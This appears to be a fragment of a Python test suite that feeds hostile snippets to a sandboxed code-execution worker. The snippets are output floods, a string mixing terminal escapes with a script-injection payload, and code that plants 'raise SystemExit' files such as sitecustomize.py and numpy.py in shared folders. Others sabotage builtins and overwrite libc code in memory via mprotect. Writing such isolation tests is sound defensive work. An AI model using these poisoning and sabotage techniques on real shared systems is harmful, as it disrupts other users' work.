        "by the name of a class": FUNCTION.format(body="return type(INPUT, (), {})()"),
        "by the name of a field": FUNCTION.format(body="return np.zeros(1, [(INPUT, float)])"),
        "by a last word": FUNCTION.format(body="print(INPUT, flush=True); os._exit(1)"),
    },
)

HOSTILE = "'\\x1b[2J\\x1b]0;owned\\x07\\u202e<script>alert(1)</script>\\r\\x00=1+1'"

attacks(
    "output",
    "patience",
    free=False,
    table={
        "a flood": "while True: print('x' * 10_000)",
        "a flood of errors": "while True: print('x' * 10_000, file=sys.stderr)",
        "a flood past Python": "while True: os.write(1, bytes(1 << 16)), os.write(2, bytes(1 << 16))",
        "control characters": (f"print({HOSTILE})\nraise ValueError({HOSTILE})", {"watch": "control characters"}),
        "markup in a name": (
            f"exception = type({HOSTILE}.replace(chr(0), ''), (Exception,), {{}})\n"
            + FUNCTION.format(body=f"raise exception({HOSTILE})"),
            {"watch": "markup", "graded": True},
        ),
        "markup in output": (
            f"print({HOSTILE})\n{ZERO}\nraise ValueError({HOSTILE})",
            {"watch": "markup", "graded": True},
        ),
    },
)

# --- the next worker --------------------------------------------------------------------------------------------------

attacks(
    "the next worker",
    "left behind",
    free=False,
    findings=(10, 13),
    table={
        "caches": """
import matplotlib
folders = [matplotlib.get_cachedir(), matplotlib.get_configdir(), '.', *sys.path]
folders += [os.environ.get(name, '.') for name in ('HOME', 'TMPDIR', 'IPYTHONDIR')]
for folder in folders:
    for name in ('fontlist-v390.json', 'matplotlibrc', 'sitecustomize.py', 'numpy.py', 'profile_default', MARK):
        with refused: open(os.path.join(folder, name), 'w').write('raise SystemExit')
""",
        "libraries in memory": """
import builtins, gc, random, warnings
np.linspace = np.array = np.abs = builtins.sorted = builtins.len = None
warnings.simplefilter('error'), gc.disable(), sys.setrecursionlimit(50), os.umask(0o777)
os.environ.clear()
""",
        "code in memory": """
address = ctypes.cast(ctypes.CDLL(None).abs, ctypes.c_void_p).value & ~4095
if ctypes.CDLL(None).mprotect(ctypes.c_void_p(address), 4096, 7) == 0: ctypes.memset(address, 0xCC, 64)
""",
        "output that waits": "sys.stdout.write(MARK * 100)\nos._exit(0)",
    },
)
